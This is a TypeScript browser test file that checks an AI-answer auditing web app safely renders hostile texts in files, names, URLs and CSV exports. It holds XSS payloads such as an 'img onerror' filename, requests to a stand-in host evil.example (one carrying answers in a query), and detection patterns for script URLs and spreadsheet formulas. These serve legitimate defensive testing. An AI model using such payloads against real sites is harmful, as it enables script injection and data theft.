import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import type { Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { hostileCharacters, hostileTexts, writeHostileRun } from '../../made-up/hostile-run.ts';
import { openApp, type App } from '../app.ts';
import { saved, sharedLink } from '../run-pages.ts';
import { roundTrip, untilStill } from '../until-still.ts';

/** A wide screen and a phone. */
const widths = [1440, 360];

let app: App;
let folder = '';
let run = '';
const dialogs: string[] = [];

beforeAll(async () => {
  app = await openApp();
  const { page } = app;
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  folder = await mkdtemp(join(tmpdir(), 'evenkeel-safety-'));
  const file = join(folder, 'hostile.evenkeel.jsonl');
  run = await writeHostileRun(file);
  await page.locator('input[type=file]').first().setInputFiles(file);
  await page.getByRole('link', { name: 'Open the run' }).waitFor();
});
afterAll(async () => {
  await app?.close();
  if (folder) await rm(folder, { recursive: true, force: true });
});

/** Checks that the hostile texts ran nothing, created no elements or addresses, and moved nothing on the page. */
async function expectHarmless(page: Page, where: string): Promise<void> {
  const found = await page.evaluate(() => {
    const all = [...document.querySelectorAll('body *')];
    const made = 'img, script, iframe, object, embed, base, meta, link, style, form[action], [srcdoc], [style*="fixed"]';
    return {
      ran: (window as { ran?: unknown }).ran,
      made: [...document.querySelectorAll(`main :is(${made})`)].map(({ outerHTML }) => outerHTML.slice(0, 120)),
      handlers: all.filter(({ attributes }) => [...attributes].some(({ name }) => name.startsWith('on'))).length,
      addresses: [...document.querySelectorAll('[href], [src], [action], [data]')]
        .flatMap((element) => ['href', 'src', 'action', 'data'].map((name) => element.getAttribute(name) ?? ''))
        .filter((address) => /^\s*(javascript|data|vbscript):|evil\.example/i.test(address) && !address.startsWith('#')),
      tooWide: document.documentElement.scrollWidth - document.documentElement.clientWidth,
    };
  });
  expect({ where, ...found }).toEqual({ where, ran: undefined, made: [], handlers: 0, addresses: [], tooWide: 0 });
  expect(await turned(page), where).toEqual([]);
}

/** Checks this at each width, in px. It ends at the first width. */
async function expectHarmlessOn(widths: readonly number[], page: Page, where: string): Promise<void> {
  for (const width of [...widths.slice(1), ...widths.slice(0, 1)]) {
    await page.setViewportSize({ width, height: 900 });
    await untilStill(page);
    await expectHarmless(page, `${where}, ${width} px wide`);
  }
}

/** Texts that reverse their direction and share a line with the page's own words. They would reverse those too. */
function turned(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const walker = document.createTreeWalker(document.querySelector('main')!, NodeFilter.SHOW_TEXT);
    const found: string[] = [];
    for (let node = walker.nextNode(); node; node = walker.nextNode()) {
      const element = node.parentElement!;
      if (!node.nodeValue?.includes('\u202e') || element.closest('svg, option')) continue;
      const { display, unicodeBidi } = getComputedStyle(element);
      const isApart = display !== 'inline' || unicodeBidi !== 'normal';
      const beside = [...element.childNodes].filter((other) => other !== node && other.nodeType === Node.TEXT_NODE);
      const isVerbatim = element.closest('.verbatim') !== null;
      if (isApart && (isVerbatim || beside.every((other) => other.nodeValue?.trim() === ''))) continue;
      found.push(`${element.tagName} ${element.className}: ${element.textContent.slice(0, 80)}`);
    }
    return found;
  });
}

/** Opens a page, waits until it is complete and opens all its details. */
async function open(page: Page, address: string): Promise<void> {
  await page.goto(`${app.served.address}#${address}`);
  await page.locator('main h1').first().waitFor();
  await page.waitForFunction(() =>
    [...document.querySelectorAll('main [role="status"]')].every(
      (status) => !/^\s*(Reading|Measuring|Asking|Comparing)\b/.test(status.textContent),
    ),
  );
  await page.locator('main [aria-busy="true"]').first().waitFor({ state: 'detached' });
  await page.evaluate(() => document.querySelectorAll('details').forEach((details) => (details.open = true)));
  await untilStill(page);
}

/** How many requests the server had answered before the test. */
let askedBefore = 0;
beforeEach(() => void (askedBefore = app.served.asked.length));
afterEach(async () => {
  // Gives the last page time to act as well.
  await roundTrip(app.page);
  expect(await app.page.evaluate(() => (window as { ran?: unknown }).ran)).toBeUndefined();
  expect(dialogs).toEqual([]);
  expect(app.foreign).toEqual([]);
  expect(app.faults).toEqual([]);
  // `<img src=x>` would have made a request to this server.
  expect(app.served.asked.slice(askedBefore).filter(({ status }) => status !== 200)).toEqual([]);
});

describe('an archive with hostile texts in every field', () => {
  test('is shown as text on every page, on a wide screen and on a phone', async () => {
    const { page } = app;
    await open(page, '/');
    await expectHarmlessOn(widths, page, 'home');
    await open(page, `/run/${run}`);
    await page.getByRole('table', { name: /^Grades/ }).waitFor();
    expect(await page.locator('main').innerText()).toContain(hostileTexts[0].slice(0, 20));
    await expectHarmlessOn(widths, page, 'report');
    await open(page, `/run/${run}/answers`);
    await page.locator('main li a').first().waitFor();
    await expectHarmlessOn(widths, page, 'answers');
    const items = await page
      .locator('main li a')
      .evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).hash));
    expect(items.length).toBeGreaterThan(8);
    for (const address of items.slice(0, 8)) {
      await open(page, address.slice(1));
      await page.locator('main li h3').first().waitFor();
      await expectHarmlessOn(widths, page, `answers to an item: ${address.slice(0, 90)}`);
    }
    await page
      .getByRole('button', { name: /^Prompt: / })
      .first()
      .click();
    await page.getByRole('dialog').waitFor();
    await expectHarmlessOn(widths, page, 'a prompt');
    await page.keyboard.press('Escape');
    await page
      .getByRole('button', { name: /^Correct the parsed answer: / })
      .first()
      .click();
    await page.getByRole('dialog').waitFor();
    await expectHarmlessOn(widths, page, 'correcting a reading');
    await page.keyboard.press('Escape');
    await open(page, `/run/${run}/check`);
    await page.getByRole('table', { name: 'Who has checked how many of these answers' }).waitFor();
    await expectHarmlessOn(widths, page, 'who checked answers');
    await open(page, `/run/${run}/check?person=Ann`);
    for (let n = 1; n <= 20; n++) {
      await page.getByRole('heading', { name: new RegExp(`^Answer ${n} of `) }).waitFor();
      await expectHarmlessOn(widths, page, `answer ${n} to check`);
      await page.keyboard.press('ArrowRight');
    }
    await open(page, `/compare/${run}/${run}`);
    await expectHarmlessOn(widths, page, 'compared with itself');
  }, 300_000);

  test('makes a shared page and tables of text, and no formula for a spreadsheet', async () => {
    const { page } = app;
    await page.setViewportSize({ width: 1440, height: 900 });
    await open(page, `/run/${run}`);
    await page.getByRole('table', { name: /^Grades/ }).waitFor();
    for (const button of ['Scores (CSV)', 'Tables (CSV)']) {
      const { text } = await saved(page, button);
      const cells = Papa.parse<string[]>(text).data.flat();
      expect(cells.some((cell) => cell.includes('=HYPERLINK'))).toBe(true);
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && Number.isNaN(Number(cell)))).toEqual([]);
    }
    const link = await sharedLink(page);
    expect(link).toContain('#/shared/');
    await open(page, link.slice(link.indexOf('#') + 1));
    await page.getByText('cannot be checked here').first().waitFor();
    await expectHarmless(page, 'shared');
  });
});

test('a reading can be corrected with a hostile reason and name', async () => {
  const { page } = app;
  await open(page, `/run/${run}/answers`);
  await page.locator('main li a').nth(3).click();
  await page
    .getByRole('button', { name: /^Correct the parsed answer: / })
    .first()
    .click();
  const dialog = page.getByRole('dialog');
  await dialog.getByRole('radio', { name: 'It refuses to answer' }).check();
  await dialog.getByLabel('Why').fill(`${hostileTexts[0]} ${hostileCharacters.replace('\u0000', '')}`);
  await dialog.getByLabel('Your name (optional)').fill(hostileTexts[1]);
  await dialog.getByRole('button', { name: 'Save the correction' }).click();
  await page.getByText('Changed by hand').first().waitFor();
  await expectHarmless(page, 'corrected');
});

test('an item file with hostile texts is shown as text where its items are', async () => {
  const { page } = app;
  const lines = hostileTexts.map((evil, n) =>
    JSON.stringify({
      question: `${evil} ${hostileCharacters} which?`.slice(0, 2000),
      choices: [0, 1, 2].map((at) => `${hostileTexts[(n + at) % hostileTexts.length]!.slice(0, 1500)} ${at}`),
      answer: 'A',
      subject: evil.slice(0, 200),
    }),
  );
  await open(page, '/items');
  await page
    .locator('main input[type=file]')
    .first()
    .setInputFiles({
      name: `<img src=x onerror=window.ran=1>.jsonl`,
      mimeType: 'application/jsonl',
      buffer: Buffer.from(`${lines.join('\n')}\n`),
    });
  const add = page.getByRole('button', { name: /^(Save|Add)/ });
  await add.waitFor();
  await expectHarmless(page, 'an item file, read');
  await page.getByLabel('Title').fill(hostileTexts[1]);
  await add.click();
  await page.locator('main a[href^="#/items/script"]').first().waitFor();
  await open(page, '/items');
  await expectHarmless(page, 'item sets');
  const set = await page.locator('main a[href^="#/items/script"]').first().getAttribute('href');
  await open(page, set!.slice(1));
  await page.locator(`main a[href^="${set}/"]`).first().waitFor();
  await expectHarmless(page, 'an item set');
  const items = await page
    .locator(`main a[href^="${set}/"]`)
    .evaluateAll((links) => links.map((a) => a.getAttribute('href')!));
  for (const item of items.slice(0, 12)) {
    await open(page, item.slice(1));
    await expectHarmless(page, item);
  }
  await open(page, `/new?items=${set!.slice('#/items/'.length)}&n=3`);
  await expectHarmless(page, 'a new audit of them');
});

test('addresses with hostile parameters are text', async () => {
  const { page } = app;
  for (const evil of hostileTexts.slice(0, 5)) {
    const word = encodeURIComponent(evil);
    for (const address of [
      `/new?study=${word}&models=${word}&items=${word}&n=${word}`,
      `/run/${word}`,
      `/run/${run}/answers/${word}?model=${word}&outcome=${word}`,
      `/items/${word}/${word}`,
      `/published/${word}`,
      `/compare/${word}/${word}`,
      `/shared/${word}`,
    ]) {
      await open(page, address);
      await expectHarmless(page, address);
    }
  }
}, 300_000);

describe('should a text run all the same', () => {
  test('the page’s policy stops inline scripts, handlers, evaluated texts and requests to others', async () => {
    // Uses its own app, because a blocked request still counts as foreign and logs an error.
    const own = await openApp();
    const { page } = own;
    const tried = await page.evaluate(async () => {
      const window = globalThis as { ran?: unknown } & typeof globalThis;
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violations.push(effectiveDirective));
      const script = document.createElement('script');
      // Adds text nodes, because the page may not even set a script's textContent.
      script.append('window.ran = 1');
      document.body.append(script);
      const button = document.createElement('button');
      try {
        button.setAttribute('onclick', 'window.ran = 2');
      } catch {
        // The policy already refuses to set the attribute.
      }
      document.body.append(button);
      button.click();
      const outcome = (work: () => unknown) =>
        Promise.resolve()
          .then(work)
          .then(
            () => 'went through',
            () => 'stopped',
          );
      const image = () =>
        new Promise((resolve, reject) => {
          const image = new Image();
          image.onload = resolve;
          image.onerror = reject;
          image.src = 'https://evil.example/x.png';
        });
      // Code that the test evaluates directly may evaluate texts. Code that the page runs later may not.
      await new Promise((resolve) => setTimeout(resolve));
      const outcomes = {
        evaluated: await outcome(() => window.eval('1')),
        fetched: await outcome(() => fetch('https://evil.example/')),
        image: await outcome(image),
        imported: await outcome(() => import(/* @vite-ignore */ String('https://evil.example/x.js'))),
        worker: await outcome(
          () =>
            new Promise((resolve, reject) => {
              const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
              worker.onmessage = resolve;
              worker.onerror = reject;
            }),
        ),
      };
      const { ran } = window;
      script.remove();
      button.remove();
      return { ran, outcomes, violations: [...new Set(violations)].sort() };
    });
    expect(tried.ran).toBeUndefined();
    expect([...new Set(Object.values(tried.outcomes))]).toEqual(['stopped']);
    // Trusted Types refuse script code before the script directives are checked.
    for (const directive of ['require-trusted-types-for', 'connect-src', 'img-src'])
      expect(tried.violations).toContain(directive);
    // The proxy would note a host and port. No request got that far.
    expect(own.foreign.filter((address) => !address.startsWith('https://evil.example/'))).toEqual([]);
    await own.close();
  });

  test('a worker’s guarded fetch refuses others, and there is no other way out', async () => {
    const page = await app.context.newPage();
    const worker = page.waitForEvent('worker', (worker) => worker.url().includes('studies.worker'));
    await open(page, `/run/${run}/answers`);
    const report = await worker;
    const tried = await report.evaluate(async () => {
      const outcome = (address: string) =>
        fetch(address).then(
          () => 'went through',
          (error: Error) => error.message,
        );
      return {
        other: await outcome('https://evil.example/?q=answers'),
        own: (await fetch(location.href)).ok,
        ways: ['XMLHttpRequest', 'WebSocket', 'WebSocketStream', 'EventSource', 'WebTransport'].filter((way) => way in self),
      };
    });
    expect(tried).toEqual({
      other: 'A request to evil.example was stopped: Evenkeel only fetches from where it is served.',
      own: true,
      ways: [],
    });
  });
});
